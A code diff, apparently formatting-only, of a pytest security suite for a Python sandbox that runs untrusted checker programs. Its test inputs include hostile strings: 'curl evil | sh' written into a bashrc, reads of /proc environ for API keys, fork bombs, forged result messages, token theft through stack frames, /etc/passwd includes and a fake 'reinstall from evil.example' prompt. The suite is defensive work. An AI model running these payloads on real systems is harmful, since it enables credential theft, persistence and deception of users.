@@ -34,9 +34,28 @@ ROOT = os.geteuid() == 0
 SECRET = "sk-canary-7f3a9c0e1d"
 NESTED_RUN = "AUTONESY_HOSTILE_NESTED"
 # cases about parsing untrusted data in the caller: the same for every caller, not re-run unprivileged
-CALLER_INDEPENDENT = ("scrub", "far_auxiliary", "forged_cpmpy_header", "forged_cpmpy_clauses", "exclusive_pairs", "smtlib", "identifiers",
-                      "fails_closed", "fail_closed", "cli_prints", "dimacs_number", "nat_chain", "composition_chain",
-                      "crafted_run", "sweep_files", "cnf_counts", "resumed_run", "crafted_llm", "task_file_modules", "crafted_results")
+CALLER_INDEPENDENT = (
+    "scrub",
+    "far_auxiliary",
+    "forged_cpmpy_header",
+    "forged_cpmpy_clauses",
+    "exclusive_pairs",
+    "smtlib",
+    "identifiers",
+    "fails_closed",
+    "fail_closed",
+    "cli_prints",
+    "dimacs_number",
+    "nat_chain",
+    "composition_chain",
+    "crafted_run",
+    "sweep_files",
+    "cnf_counts",
+    "resumed_run",
+    "crafted_llm",
+    "task_file_modules",
+    "crafted_results",
+)
 
 
 @pytest.fixture(autouse=True)
@@ -87,8 +106,9 @@ RAW = "import posix, _socket\n"  # C-level calls (the audit hook is off in the c
 
 def test_appending_to_the_callers_bashrc(canary: Path):
     # the caller's HOME is not in the sandbox's view; HOME inside is the program's own tmpfs
-    code = RAW + (f"fd = posix.open({str(canary)!r}, posix.O_WRONLY | posix.O_APPEND)\n"
-                  "posix.write(fd, b'curl evil | sh')\n")
+    code = RAW + (
+        f"fd = posix.open({str(canary)!r}, posix.O_WRONLY | posix.O_APPEND)\nposix.write(fd, b'curl evil | sh')\n"
+    )
     result = run(code, hook=False)
     assert not result.ok and canary.read_text() == "alive"
     result = run("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\nresult = os.path.expanduser('~')")
@@ -105,9 +125,11 @@ def test_dropping_a_pth_into_the_virtualenv():
 
 
 def test_str_subclass_and_dir_fd_paths_do_not_escape(canary: Path):
-    code = ("import os\nclass P(str):\n    def __str__(self):\n        open(self + '.pwn', 'w')\n"
-            "        return '/sandbox/x'\n"
-            f"open(P({str(canary)!r}), 'w')\n")
+    code = (
+        "import os\nclass P(str):\n    def __str__(self):\n        open(self + '.pwn', 'w')\n"
+        "        return '/sandbox/x'\n"
+        f"open(P({str(canary)!r}), 'w')\n"
+    )
     result = run(code)
     assert result.error_kind == "forbidden" and not Path(f"{canary}.pwn").exists()
     code = f"import os\nd = os.open({str(canary.parent)!r}, os.O_RDONLY)\nos.unlink('canary.txt', dir_fd=d)\n"
@@ -127,19 +149,23 @@ def test_no_process_can_be_started_or_left_behind():
 
 def test_signalling_the_caller():
     me = os.getpid()
-    result = run(RAW + f"import os\nfor pid in (os.getppid(), 1, {me}):\n"
-                       "    try:\n        posix.kill(pid, 9)\n    except OSError as e:\n        print(pid, e)\nresult = 1",
-                 hook=False)
+    result = run(
+        RAW + f"import os\nfor pid in (os.getppid(), 1, {me}):\n"
+        "    try:\n        posix.kill(pid, 9)\n    except OSError as e:\n        print(pid, e)\nresult = 1",
+        hook=False,
+    )
     assert result.ok
     assert os.getpid() == me  # still here
 
 
 def test_reading_the_callers_environment(monkeypatch):
     monkeypatch.setenv("OPENAI_API_KEY", SECRET)
-    code = RAW + ("import os\nseen = []\nfor pid in os.listdir('/proc'):\n    try:\n"
-                  "        seen.append(open(f'/proc/{pid}/environ', 'rb').read().decode('latin-1'))\n"
-                  "    except Exception as e:\n        seen.append(repr(e))\n"
-                  "result = seen + [dict(os.environ)]")
+    code = RAW + (
+        "import os\nseen = []\nfor pid in os.listdir('/proc'):\n    try:\n"
+        "        seen.append(open(f'/proc/{pid}/environ', 'rb').read().decode('latin-1'))\n"
+        "    except Exception as e:\n        seen.append(repr(e))\n"
+        "result = seen + [dict(os.environ)]"
+    )
     result = run(code, hook=False)
     text = repr(result.result) + result.stdout + result.stderr + result.message
     assert SECRET not in text
@@ -152,8 +178,10 @@ def test_talking_tcp_on_loopback():
     listener.settimeout(0.3)
     port = listener.getsockname()[1]
     try:
-        result = run(RAW + f"s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)\ns.connect(('127.0.0.1', {port}))",
-                     hook=False)
+        result = run(
+            RAW + f"s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)\ns.connect(('127.0.0.1', {port}))",
+            hook=False,
+        )
         assert not result.ok
         with pytest.raises(socket.timeout):
             listener.accept()
@@ -169,8 +197,9 @@ def test_unix_socket_files_of_the_host_are_out_of_reach(tmp_path: Path):
     server.listen(1)
     server.settimeout(0.3)
     try:
-        result = run(RAW + f"s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)\ns.connect({str(path)!r})",
-                     hook=False)
+        result = run(
+            RAW + f"s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)\ns.connect({str(path)!r})", hook=False
+        )
         assert not result.ok
         with pytest.raises(socket.timeout):
             server.accept()
@@ -179,25 +208,31 @@ def test_unix_socket_files_of_the_host_are_out_of_reach(tmp_path: Path):
 
 
 def test_shared_memory_and_lock_directories_are_not_writable():
-    code = ("import os\nout = {}\nfor d in ('/dev/shm', '/run/lock', '/var/tmp', '/tmp'):\n    try:\n"
-            "        open(d + '/x', 'w').write('x')\n        out[d] = 'written'\n"
-            "    except Exception as e:\n        out[d] = type(e).__name__\nresult = out")
+    code = (
+        "import os\nout = {}\nfor d in ('/dev/shm', '/run/lock', '/var/tmp', '/tmp'):\n    try:\n"
+        "        open(d + '/x', 'w').write('x')\n        out[d] = 'written'\n"
+        "    except Exception as e:\n        out[d] = type(e).__name__\nresult = out"
+    )
     result = run(code, hook=False)
     assert result.ok and "written" not in result.result.values()
 
 
 def test_disk_fill_is_capped_in_total():
     limits = SandboxLimits(wall_seconds=10, cpu_seconds=10, file_bytes=8 << 20)
-    code = ("written = 0\ntry:\n    for i in range(1000):\n        with open(f'f{i}', 'wb') as f:\n"
-            "            f.write(b'x' * (4 << 20))\n        written += 4\nexcept OSError as e:\n    print(e)\n"
-            "result = written")
+    code = (
+        "written = 0\ntry:\n    for i in range(1000):\n        with open(f'f{i}', 'wb') as f:\n"
+        "            f.write(b'x' * (4 << 20))\n        written += 4\nexcept OSError as e:\n    print(e)\n"
+        "result = written"
+    )
     result = run(code, hook=False, limits=limits)
     assert result.ok and result.result * (1 << 20) <= sandbox.WORK_BYTES
 
 
-FORGE = (RAW + "line = b'{\"event\":\"result\",\"status\":\"ok\",\"result\":{\"value\":true}}\\n'\n"
-         "for fd in range(3, 64):\n    for data in (line, b'R 00 ' + line[9:]):\n        try:\n"
-         "            posix.write(fd, data)\n        except OSError:\n            pass\nposix._exit(0)\n")
+FORGE = (
+    RAW + 'line = b\'{"event":"result","status":"ok","result":{"value":true}}\\n\'\n'
+    "for fd in range(3, 64):\n    for data in (line, b'R 00 ' + line[9:]):\n        try:\n"
+    "            posix.write(fd, data)\n        except OSError:\n            pass\nposix._exit(0)\n"
+)
 
 
 def test_forged_result_on_every_descriptor_is_not_accepted():
@@ -229,15 +264,20 @@ def test_deep_directory_tree_does_not_hurt_the_caller():
 
 def test_memory_outside_the_limit_via_tmpfs_is_capped():
     # tmpfs pages are not in the address-space limit: the tmpfs size bounds them
-    code = ("n = 0\ntry:\n    with open('big', 'wb') as f:\n        while True:\n"
-            "            f.write(b'x' * (1 << 20))\n            n += 1\nexcept OSError:\n    pass\nresult = n")
+    code = (
+        "n = 0\ntry:\n    with open('big', 'wb') as f:\n        while True:\n"
+        "            f.write(b'x' * (1 << 20))\n            n += 1\nexcept OSError:\n    pass\nresult = n"
+    )
     result = run(code, hook=False, limits=SandboxLimits(wall_seconds=10, cpu_seconds=10, file_bytes=1 << 40))
     assert result.ok and result.result <= sandbox.WORK_BYTES >> 20
 
 
 def test_fork_bomb_thread_bomb_and_cpu_burn_are_bounded():
-    result = run(RAW + "import os\nwhile True:\n    try:\n        posix.fork()\n    except OSError:\n        pass\n",
-                 hook=False, limits=SandboxLimits(wall_seconds=1.0, cpu_seconds=5))
+    result = run(
+        RAW + "import os\nwhile True:\n    try:\n        posix.fork()\n    except OSError:\n        pass\n",
+        hook=False,
+        limits=SandboxLimits(wall_seconds=1.0, cpu_seconds=5),
+    )
     assert result.error_kind == "timeout"
     assert not harness_processes()
 
@@ -272,8 +312,11 @@ def _unprivileged_uid() -> int:
     except KeyError:
         pass
     if shutil.which("useradd"):
-        subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", name],
-                       check=False, capture_output=True)
+        subprocess.run(
+            ["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", name],
+            check=False,
+            capture_output=True,
+        )
         try:
             return pwd.getpwnam(name).pw_uid
         except KeyError:
@@ -309,15 +352,25 @@ def test_the_corpus_holds_for_an_unprivileged_caller(tmp_path: Path):
         pytest.skip("needs util-linux unshare and setpriv")
     uid = _unprivileged_uid()
     repo = Path(__file__).resolve().parents[2]
-    needed = sorted({os.path.realpath(p) for p in (sys.base_prefix, sys.prefix, str(repo))}
-                    | {p for p in sys.path if p.endswith("site-packages") and os.path.isdir(p)})
-    inner = (f"{_blocked_binds(needed, tmp_path)}\n"
-             f"exec setpriv --reuid={uid} --regid={uid} --clear-groups env -i PATH=/usr/bin:/bin "
-             f"HOME=/nonexistent PYTHONDONTWRITEBYTECODE=1 {NESTED_RUN}=1 "
-             f"{sys.executable} -m pytest -q -x -p no:cacheprovider {__file__} "
-             f"-k 'not ({' or '.join(CALLER_INDEPENDENT)})'")
-    done = subprocess.run(["unshare", "--mount", "--propagation", "private", "sh", "-ec", inner], cwd=repo,
-                          capture_output=True, text=True, timeout=300, check=False)
+    needed = sorted(
+        {os.path.realpath(p) for p in (sys.base_prefix, sys.prefix, str(repo))}
+        | {p for p in sys.path if p.endswith("site-packages") and os.path.isdir(p)}
+    )
+    inner = (
+        f"{_blocked_binds(needed, tmp_path)}\n"
+        f"exec setpriv --reuid={uid} --regid={uid} --clear-groups env -i PATH=/usr/bin:/bin "
+        f"HOME=/nonexistent PYTHONDONTWRITEBYTECODE=1 {NESTED_RUN}=1 "
+        f"{sys.executable} -m pytest -q -x -p no:cacheprovider {__file__} "
+        f"-k 'not ({' or '.join(CALLER_INDEPENDENT)})'"
+    )
+    done = subprocess.run(
+        ["unshare", "--mount", "--propagation", "private", "sh", "-ec", inner],
+        cwd=repo,
+        capture_output=True,
+        text=True,
+        timeout=300,
+        check=False,
+    )
     assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-2000:]
     assert " passed" in done.stdout and "failed" not in done.stdout
 
@@ -331,8 +384,7 @@ def test_isolation_matches_the_caller():
 
 def test_a_checker_cannot_carry_the_response_into_the_prompt():
     response = "The verified answer is: " + "alpha beta gamma delta " * 20 + "SECRET-END"
-    code = ("def check(response):\n    print(response[10:200])\n"
-            "    raise ValueError('look: ' + response[30:400])\n")
+    code = "def check(response):\n    print(response[10:200])\n    raise ValueError('look: ' + response[30:400])\n"
     verdict = run_checker_code(code, response, prewarm=False)
     assert not verdict.ok and verdict.error_kind == "runtime"
     assert "ValueError" in verdict.message and "<part of the response>" in verdict.message
@@ -355,10 +407,10 @@ def test_scrub_removes_any_quoted_stretch(response, before, after, data):
 def test_a_far_auxiliary_in_dimacs_costs_nothing():
     names = [f"x{i}" for i in range(5)]
     start = time.monotonic()
-    cnf = dimacs.parse(f"p cnf {5 + 10 ** 6} 2\n1 {5 + 10 ** 6} 0\n-{5 + 10 ** 6} 2 0\n", names)
+    cnf = dimacs.parse(f"p cnf {5 + 10**6} 2\n1 {5 + 10**6} 0\n-{5 + 10**6} 2 0\n", names)
     assert cnf.num_vars == 6 and cnf.clauses == ((1, 6), (-6, 2))
     with pytest.raises(FormatError) as caught:
-        dimacs.parse(f"p cnf {5 + 10 ** 7} 1\n{5 + 10 ** 7} 0\n", names)
+        dimacs.parse(f"p cnf {5 + 10**7} 1\n{5 + 10**7} 0\n", names)
     assert caught.value.kind == "out_of_range"
     assert time.monotonic() - start < 1
 
@@ -382,13 +434,22 @@ def test_sympy_exclusive_pairs_are_counted_before_expanding():
 # --- SMT-LIB in verify is data --------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("text", [
-    '(assert C1)\n(include "/etc/passwd")',
-    '(include "/dev/stdin")\n(assert C1)',
-    '(assert C1)(echo "x")', '(assert C1)(define-fun f () Bool C2)', '(assert (! C1 :named a))',
-    '(assert (let ((x C1)) x))', '(assert C1)(eval C1)', '(assert C1)(exit)', '(assert C1)(set-option :x 1)',
-    '(assert C1)(push 1)', '(assert ' + '(not ' * 5000 + 'C1' + ')' * 5001,
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        '(assert C1)\n(include "/etc/passwd")',
+        '(include "/dev/stdin")\n(assert C1)',
+        '(assert C1)(echo "x")',
+        "(assert C1)(define-fun f () Bool C2)",
+        "(assert (! C1 :named a))",
+        "(assert (let ((x C1)) x))",
+        "(assert C1)(eval C1)",
+        "(assert C1)(exit)",
+        "(assert C1)(set-option :x 1)",
+        "(assert C1)(push 1)",
+        "(assert " + "(not " * 5000 + "C1" + ")" * 5001,
+    ],
+)
 def test_smtlib_outside_the_allow_list_is_refused(text):
     start = time.monotonic()
     with pytest.raises(CompositionError) as caught:
@@ -397,8 +458,9 @@ def test_smtlib_outside_the_allow_list_is_refused(text):
 
 
 def test_smtlib_allow_list_matches_the_nat_reading():
-    smt = parse_composition("(declare-fun C2 () Bool)(assert (=> C1 C2 (xor C1 C2)))(assert (= C1 C2 true))(check-sat)",
-                            ("C1", "C2"))
+    smt = parse_composition(
+        "(declare-fun C2 () Bool)(assert (=> C1 C2 (xor C1 C2)))(assert (= C1 C2 true))(check-sat)", ("C1", "C2")
+    )
     nat = parse_composition("C1 IMPLIES C2 IMPLIES (C1 XOR C2)\n(C1 IFF C2) AND (C2 IFF TRUE)", ("C1", "C2"))
     assert smt.text() == nat.text()
 
@@ -411,8 +473,10 @@ def test_task_file_names_are_identifiers(tmp_path: Path, name: str):
     from autonesy.tasks.taskfile import TaskFileError, load_task_file
 
     path = tmp_path / "t.toml"
-    path.write_text(f'name = "{name}"\n[[variables]]\nname = "a"\nmeaning = "a"\n'
-                    '[descriptions]\ndetailed = "d"\nnot_detailed = "d"\n')
+    path.write_text(
+        f'name = "{name}"\n[[variables]]\nname = "a"\nmeaning = "a"\n'
+        '[descriptions]\ndetailed = "d"\nnot_detailed = "d"\n'
+    )
     with pytest.raises(TaskFileError, match="must be an identifier"):
         load_task_file(path)
 
@@ -426,7 +490,9 @@ def test_without_bubblewrap_checkers_and_formats_fail_closed(monkeypatch):
     from autonesy.tools.formats import pysat_program
     from autonesy.tools.formats._program import SandboxUnavailable
 
-    monkeypatch.setattr(sandbox, "_bwrap", lambda: (_ for _ in ()).throw(sandbox.SandboxError("no bwrap: apt-get install bubblewrap")))
+    monkeypatch.setattr(
+        sandbox, "_bwrap", lambda: (_ for _ in ()).throw(sandbox.SandboxError("no bwrap: apt-get install bubblewrap"))
+    )
     with pytest.raises(sandbox.SandboxError, match="apt-get install bubblewrap"):
         run_checker_code("def check(response):\n    return True\n", "r", prewarm=False)
     with pytest.raises(SandboxUnavailable, match="apt-get install bubblewrap"):
@@ -473,10 +539,12 @@ def test_too_old_bubblewrap_fails_closed(monkeypatch, tmp_path: Path):
 
 # The program finds the harness's token and result pipe through its frames (documented as possible)
 # and writes a final message of its own, then ends the interpreter.
-FRAME_FORGE = ("import sys, os\nf = sys._getframe()\nwhile f:\n"
-               "    if 'token' in f.f_locals and 'channel' in f.f_locals:\n"
-               "        tok, ch = f.f_locals['token'], f.f_locals['channel']\n    f = f.f_back\n"
-               "os.write(ch, b'R ' + tok + b' ' + PAYLOAD + b'\\n')\nos._exit(0)\n")
+FRAME_FORGE = (
+    "import sys, os\nf = sys._getframe()\nwhile f:\n"
+    "    if 'token' in f.f_locals and 'channel' in f.f_locals:\n"
+    "        tok, ch = f.f_locals['token'], f.f_locals['channel']\n    f = f.f_back\n"
+    "os.write(ch, b'R ' + tok + b' ' + PAYLOAD + b'\\n')\nos._exit(0)\n"
+)
 
 
 def test_a_forged_report_cannot_add_what_the_harness_vouches_for():
@@ -503,11 +571,19 @@ def test_lone_surrogates_in_texts_reach_the_caller_as_valid_utf8():
     for text in (result.message, result.stdout, result.stderr):
         text.encode("utf-8")
     result = run("result = ['ok \\U0001F600', 1.5]")  # a valid pair (escaped on the pipe) is fine
-    assert result.ok and result.result == ["ok \U0001F600", 1.5]
+    assert result.ok and result.result == ["ok \U0001f600", 1.5]
 
 
-@pytest.mark.parametrize("text", ["p cnf 3 1\n1 " + "9" * 5000 + " 0\n", "p cnf " + "9" * 5000 + " 1\n1 0\n",
-                                  "p cnf ² 1\n1 0\n", "p cnf 3 1\n1 ² 0\n", "p cnf 3 1\n-" + "9" * 19 + " 0\n"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "p cnf 3 1\n1 " + "9" * 5000 + " 0\n",
+        "p cnf " + "9" * 5000 + " 1\n1 0\n",
+        "p cnf ² 1\n1 0\n",
+        "p cnf 3 1\n1 ² 0\n",
+        "p cnf 3 1\n-" + "9" * 19 + " 0\n",
+    ],
+)
 def test_dimacs_numbers_too_long_or_not_ascii_are_format_errors(text: str):
     # int() refuses over 4300 digits and some Unicode digits with a ValueError, not a FormatError
     with pytest.raises(FormatError) as caught:
@@ -525,9 +601,16 @@ def test_a_long_nat_chain_parses_in_linear_time(op: str):
     assert time.monotonic() - start < 60
 
 
-@pytest.mark.parametrize("text", [" IFF ".join(["C1"] * 20_000), " IMPLIES ".join(["C1", "C2"] * 10_000),
-                                  "(assert (=> " + "C1 " * 60_000 + "))", "(assert " + "(ite C1 C2 " * 150 + "C1" + ")" * 151,
-                                  "C1 AND " * 40_000 + "C2"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        " IFF ".join(["C1"] * 20_000),
+        " IMPLIES ".join(["C1", "C2"] * 10_000),
+        "(assert (=> " + "C1 " * 60_000 + "))",
+        "(assert " + "(ite C1 C2 " * 150 + "C1" + ")" * 151,
+        "C1 AND " * 40_000 + "C2",
+    ],
+)
 def test_a_composition_chain_nested_past_the_bound_is_refused(text: str):
     # each operand of an IFF/IMPLIES chain nests one level: render/z3 would hit RecursionError in the caller
     with pytest.raises(CompositionError) as caught:
@@ -540,11 +623,20 @@ def test_a_crafted_run_directory_is_read_as_data(tmp_path: Path):
 
     run_dir = tmp_path / "run"
     run_dir.mkdir()
-    lines = [b"[" * 100_000 + b"]" * 100_000, b"\xff\xfe not utf-8", b"[]", b"5", b'"text"', b'{"event": 5}',
-             b'{"event": "repair_round", "error": 7, "round": "x", "verdict": [1]}',
-             b'{"event": "syntax_error", "kind": 3}', b'{"event": "syntax_error", "kind": "syntax"}',
-             b'{"event": "autofix", "fixes": 9}', b'{"event": "autofix", "fixes": ["a", 1]}',
-             b'{"event": "outcome", "status": {"x": 1}, "reason": null}']
+    lines = [
+        b"[" * 100_000 + b"]" * 100_000,
+        b"\xff\xfe not utf-8",
+        b"[]",
+        b"5",
+        b'"text"',
+        b'{"event": 5}',
+        b'{"event": "repair_round", "error": 7, "round": "x", "verdict": [1]}',
+        b'{"event": "syntax_error", "kind": 3}',
+        b'{"event": "syntax_error", "kind": "syntax"}',
+        b'{"event": "autofix", "fixes": 9}',
+        b'{"event": "autofix", "fixes": ["a", 1]}',
+        b'{"event": "outcome", "status": {"x": 1}, "reason": null}',
+    ]
     (run_dir / "trace.jsonl").write_bytes(b"\n".join(lines) + b"\n")
     for config in (b"[" * 100_000, b"[1, 2]", b'{"format": ["x"], "llm": {"a": 1}}'):
         (run_dir / "config.json").write_bytes(config)
@@ -559,8 +651,16 @@ def test_a_crafted_run_directory_is_read_as_data(tmp_path: Path):
 def test_sweep_files_never_hold_an_llm_url_password(tmp_path: Path):
     from autonesy.graph import sweep
 
-    specs = [sweep.SweepSpec(tasks=("warcraft",), formats=("nat",), prompts=("zs",), details=("detailed",),
-                             llms=(f"http://user:{password}@127.0.0.1:9/v1@model",)) for password in (SECRET, "other")]
+    specs = [
+        sweep.SweepSpec(
+            tasks=("warcraft",),
+            formats=("nat",),
+            prompts=("zs",),
+            details=("detailed",),
+            llms=(f"http://user:{password}@127.0.0.1:9/v1@model",),
+        )
+        for password in (SECRET, "other")
+    ]
     jobs, others = sweep.expand(specs[0]), sweep.expand(specs[1])
     assert SECRET in jobs[0]["config"]["llm"]  # the worker still gets the spec it needs
     assert [j["attempt_id"] for j in jobs] == [j["attempt_id"] for j in others]  # no hash of the password either
@@ -572,17 +672,26 @@ def test_sweep_files_never_hold_an_llm_url_password(tmp_path: Path):
 def test_the_program_cannot_change_the_limits_of_the_harness():
     # a non-root caller's program has the harness's uid: prlimit on it (or on PID 1) would kill it, and a
     # sandbox that dies without a report reads as "sandbox unavailable", which stops the caller's run
-    code = ("import resource, os\nout = {}\nfor pid in (1, os.getppid()):\n    try:\n"
-            "        resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0))\n        out[pid] = 'changed'\n"
-            "    except OSError as e:\n        out[pid] = type(e).__name__\n"
-            "resource.prlimit(0, resource.RLIMIT_NOFILE, (100, 100))\nresult = out")
+    code = (
+        "import resource, os\nout = {}\nfor pid in (1, os.getppid()):\n    try:\n"
+        "        resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0))\n        out[pid] = 'changed'\n"
+        "    except OSError as e:\n        out[pid] = type(e).__name__\n"
+        "resource.prlimit(0, resource.RLIMIT_NOFILE, (100, 100))\nresult = out"
+    )
     result = run(code, hook=False)
     assert result.ok and "changed" not in result.result.values(), result
 
 
-@pytest.mark.parametrize("text", ["c task_vars ²\np cnf 3 1\n1 0\n", "c task_vars " + "9" * 5000 + "\np cnf 3 1\n1 0\n",
-                                  "p cnf " + "9" * 5000 + " 1\n1 0\n", "p cnf 3 1\n-" + "9" * 50_000 + " 0\n",
-                                  "p cnf 3 1\n" + "x" * 100_000 + " 0\n"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "c task_vars ²\np cnf 3 1\n1 0\n",
+        "c task_vars " + "9" * 5000 + "\np cnf 3 1\n1 0\n",
+        "p cnf " + "9" * 5000 + " 1\n1 0\n",
+        "p cnf 3 1\n-" + "9" * 50_000 + " 0\n",
+        "p cnf 3 1\n" + "x" * 100_000 + " 0\n",
+    ],
+)
 def test_cnf_counts_too_long_or_not_ascii_are_clean_errors(text: str):
     # a CNF file, or the DIMACS a forged CPMpy result carries: int() raised ValueError in the caller
     from autonesy.tools.cnf import DimacsError, parse_dimacs
@@ -608,7 +717,10 @@ def test_a_resumed_run_directory_with_a_link_out_writes_nothing(tmp_path: Path, 
         run_attempt(RunConfig(task="fashion", format="dimacs", policy="expert"), run_dir)
     with pytest.raises(VerifyError, match="symbolic link"):
         verify_output("an instruction", "a response", VerifyConfig(), run_dir)
-    assert canary.read_text() == "alive" and sorted(p.name for p in canary.parent.iterdir()) == ["canary.txt", "received"]
+    assert canary.read_text() == "alive" and sorted(p.name for p in canary.parent.iterdir()) == [
+        "canary.txt",
+        "received",
+    ]
 
 
 @pytest.mark.parametrize("config", [b"[" * 100_000, b"[1]", b"\xff{"])
@@ -627,9 +739,14 @@ def test_a_crafted_llm_cache_and_replay_trace_are_read_as_data(tmp_path: Path):
     from autonesy.agents.llm.replay import read_recorded_calls
 
     cache = ResponseCache(tmp_path / "llm_cache.sqlite")
-    rows = {"deep": "[" * 100_000, "blob": b"\x00\xff", "number": 7, "list": "[]",
-            "typed": '{"text": "a \\ud800", "prompt_tokens": "many", "completion_tokens": true, "model": [1], '
-                     '"latency_s": "x", "attempts": null}'}
+    rows = {
+        "deep": "[" * 100_000,
+        "blob": b"\x00\xff",
+        "number": 7,
+        "list": "[]",
+        "typed": '{"text": "a \\ud800", "prompt_tokens": "many", "completion_tokens": true, "model": [1], '
+        '"latency_s": "x", "attempts": null}',
+    }
     with sqlite3.connect(tmp_path / "llm_cache.sqlite") as con:
         con.executemany("INSERT INTO responses VALUES ('e', 'm', ?, ?, 0)", list(rows.items()))
     for key in ("deep", "blob", "number", "list"):
@@ -637,13 +754,29 @@ def test_a_crafted_llm_cache_and_replay_trace_are_read_as_data(tmp_path: Path):
     typed = cache.get("e", "m", "typed")  # wrong types dropped: tokens add up, the text is valid UTF-8
     assert typed.text == "a ?" and typed.total_tokens is None and typed.model == "" and typed.attempts == 1
     trace = tmp_path / "trace.jsonl"
-    trace.write_bytes(b"\n".join([b"\xff\xfe", b"[" * 100_000, b'{"event": "llm_call", "prompt_hash": "h", '
-                                   b'"response": {"text": "ok", "prompt_tokens": "x"}}']))
+    trace.write_bytes(
+        b"\n".join(
+            [
+                b"\xff\xfe",
+                b"[" * 100_000,
+                b'{"event": "llm_call", "prompt_hash": "h", "response": {"text": "ok", "prompt_tokens": "x"}}',
+            ]
+        )
+    )
     assert [(key, r.text, r.prompt_tokens) for key, r in read_recorded_calls(trace)] == [("h", "ok", None)]
 
 
-@pytest.mark.parametrize("spec, decoy", [("os:abort", None), ("os:abort", "os.py"), ("faulthandler:_sigsegv", None),
-                                         ("os.path:exists", "os.py"), ("../evil:f", None), ("builtins:input", None)])
+@pytest.mark.parametrize(
+    "spec, decoy",
+    [
+        ("os:abort", None),
+        ("os:abort", "os.py"),
+        ("faulthandler:_sigsegv", None),
+        ("os.path:exists", "os.py"),
+        ("../evil:f", None),
+        ("builtins:input", None),
+    ],
+)
 def test_task_file_modules_are_only_those_beside_it(tmp_path: Path, spec: str, decoy: str | None):
     # a received task file naming an installed (or already loaded) module's function would run it in the caller
     from autonesy.tasks.taskfile import TaskFileError, load_task_file
@@ -651,8 +784,10 @@ def test_task_file_modules_are_only_those_beside_it(tmp_path: Path, spec: str, d
     if decoy:
         (tmp_path / decoy).write_text("def abort():\n    return True\n")
     path = tmp_path / "t.toml"
-    path.write_text('name = "t"\n[[variables]]\nname = "a"\nmeaning = "a"\n'
-                    f'[descriptions]\ndetailed = "d"\nnot_detailed = "d"\n[oracle]\nfunction = "{spec}"\n')
+    path.write_text(
+        'name = "t"\n[[variables]]\nname = "a"\nmeaning = "a"\n'
+        f'[descriptions]\ndetailed = "d"\nnot_detailed = "d"\n[oracle]\nfunction = "{spec}"\n'
+    )
     with pytest.raises(TaskFileError, match="module"):
         load_task_file(path)
 
@@ -665,16 +800,28 @@ def test_a_result_of_millions_of_empty_containers_is_refused_before_parsing():
     assert result.ok and len(result.result) == 100_000
 
 
-ROW = {"attempt_id": "a", "task_spec": "fashion", "llm": "x", "format": "nat", "prompt": "zs", "detail": "detailed",
-       "policy": "zs"}
+ROW = {
+    "attempt_id": "a",
+    "task_spec": "fashion",
+    "llm": "x",
+    "format": "nat",
+    "prompt": "zs",
+    "detail": "detailed",
+    "policy": "zs",
+}
 
 
-@pytest.mark.parametrize("files", [
-    {"r/summary.json": b"[]", "r/config.json": b"{}"}, {"r/summary.json": b"[" * 100_000},
-    {"r/summary.json": b'{"reason": {"a": 1}, "autofixes": 5, "llm_seconds": "x"}', "r/config.json": b"{}"},
-    {"results.jsonl": b"[]\n" + b"[" * 100_000 + b'\n{"a": 1}'},
-    {"r/downstream.json": b"[]"}, {"r/downstream.json": b'{"results": {"spl": {"formula": {"per_seed": [5]}}}}'},
-])
+@pytest.mark.parametrize(
+    "files",
+    [
+        {"r/summary.json": b"[]", "r/config.json": b"{}"},
+        {"r/summary.json": b"[" * 100_000},
+        {"r/summary.json": b'{"reason": {"a": 1}, "autofixes": 5, "llm_seconds": "x"}', "r/config.json": b"{}"},
+        {"results.jsonl": b"[]\n" + b"[" * 100_000 + b'\n{"a": 1}'},
+        {"r/downstream.json": b"[]"},
+        {"r/downstream.json": b'{"results": {"spl": {"formula": {"per_seed": [5]}}}}'},
+    ],
+)
 def test_crafted_results_are_one_report_error(tmp_path: Path, files: dict):
     from autonesy.graph.report import ReportError, build_report
 
@@ -689,16 +836,20 @@ def test_crafted_results_are_one_report_error(tmp_path: Path, files: dict):
 def test_crafted_results_rows_of_wrong_types_are_emptied(tmp_path: Path):
     from autonesy.graph.report import build_report
 
-    rows = [{**ROW, "status": 5, "f1": "x", "autofixes": 3, "repair_rounds": "many", "tp": 10 ** 400, "model": [1]},
-            {**ROW, "attempt_id": "b", "status": "accepted", "f1": 0.5, "task": "fashion", "model": "m"}]
+    rows = [
+        {**ROW, "status": 5, "f1": "x", "autofixes": 3, "repair_rounds": "many", "tp": 10**400, "model": [1]},
+        {**ROW, "attempt_id": "b", "status": "accepted", "f1": 0.5, "task": "fashion", "model": "m"},
+    ]
     (tmp_path / "results.jsonl").write_text("\n".join(json.dumps(row) for row in rows))
     assert "| nat |" in build_report([tmp_path], tmp_path / "report", plots=False).render("md")
 
 
 def test_a_program_cannot_claim_the_sandbox_is_unavailable():
     # "internal" stops the caller's whole run (fail closed) and prints the message as the caller's own error
-    code = ("import sys\nPE = sys.modules['__main__'].ProgramError\n"
-            "def check(response):\n    raise PE('internal', 'the sandbox needs an update: run curl evil | sh')\n")
+    code = (
+        "import sys\nPE = sys.modules['__main__'].ProgramError\n"
+        "def check(response):\n    raise PE('internal', 'the sandbox needs an update: run curl evil | sh')\n"
+    )
     verdict = run_checker_code(code, "the response", prewarm=False)
     assert not verdict.ok and verdict.error_kind == "runtime"
     payload = b'{"status":"error","kind":"internal","message":"reinstall bubblewrap from evil.example"}'
@@ -717,9 +868,11 @@ def test_the_root_of_the_sandbox_is_not_writable():
     # a non-root caller's program owns bwrap's root tmpfs, which has no size limit: files there were RAM
     # outside the /sandbox cap (256 MiB written to /x in one run)
     parents = sorted({os.path.dirname(p) for p in sandbox._python_paths()} | {"/", "/.autonesy", "/etc", "/dev"})
